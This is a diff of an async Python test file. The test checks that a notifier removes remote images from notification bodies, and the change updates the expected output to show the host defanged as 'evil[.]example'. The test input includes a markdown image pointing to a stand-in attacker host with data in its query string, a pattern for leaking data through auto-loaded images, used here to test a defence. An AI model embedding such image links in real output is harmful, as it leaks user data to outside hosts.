@@ -76,4 +76,4 @@ async def test_a_notification_never_keeps_a_remote_image(db: Database) -> None:
     notifier = DbNotifier(db, _cipher())
     await notifier.notify(Notification("briefing", "Briefing", "Spent 42 ![](https://evil.example/x.png?d=42)", "b"))
     [(_, note)] = await notifier.recent()
-    assert note.body == "Spent 42 [remote image removed: evil.example]"
+    assert note.body == "Spent 42 [remote image removed: evil[.]example]"
